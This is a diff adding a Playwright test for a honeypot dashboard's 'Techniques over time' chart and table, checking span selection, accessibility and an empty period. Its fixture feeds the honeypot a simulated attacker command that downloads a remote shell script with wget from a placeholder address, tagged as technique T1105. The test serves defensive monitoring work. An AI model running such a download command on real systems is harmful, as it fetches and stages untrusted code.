@@ -1,4 +1,5 @@
 import { expect, test } from '@playwright/test';
+import { expectAccessible } from './axe';
 import { push, pushKey } from './cowrie';
 import { logIn, watch } from './server';
 
@@ -60,4 +61,39 @@ test('what came since the last visit is counted', async ({ page }) => {
   const news = page.getByRole('region', { name: 'Since your last visit' });
   await expect(news).toContainText(/\d+ new attackers/);
   await expect(news).not.toContainText('…');
+});
+
+test('techniques over time are bars and a table, of the span that the address says', async ({ page, request }) => {
+  const seen = watch(page);
+  const token = await logIn(page);
+  const key = await pushKey(request, token);
+  await push(request, key, {
+    session: `time${Date.now().toString(16)}`,
+    address: '198.51.100.53',
+    commands: ['wget http://203.0.113.5/z.sh -O /tmp/z'],
+  });
+  await page.goto('/');
+  const section = page.getByRole('region', { name: 'Techniques over time', exact: true });
+  const legend = section.getByRole('list', { name: 'Techniques in the bars' });
+  await expect(legend.getByRole('link', { name: /^T1105/ })).toBeVisible({ timeout: 45_000 });
+  await section.getByLabel('Span of time').selectOption('day');
+  await expect(page).toHaveURL(/span=day/);
+  await expect(section.getByRole('img', { name: /^Tags by technique in 24 intervals/ })).toBeVisible();
+  await expectAccessible(page);
+
+  await section.getByRole('button', { name: 'Show as a table' }).click();
+  const table = section.getByRole('table');
+  const column = (await table.getByRole('columnheader').allInnerTexts()).indexOf('T1105');
+  expect(column).toBeGreaterThan(0);
+  await expect(
+    table
+      .getByRole('row')
+      .last()
+      .getByRole('cell')
+      .nth(column - 1),
+  ).not.toHaveText('0');
+  await expectAccessible(page);
+  await page.goto('/?until=2020-01-01T00:00:00Z');
+  await expect(section.getByText('No techniques in this time')).toBeVisible();
+  expect(seen).toEqual([]);
 });
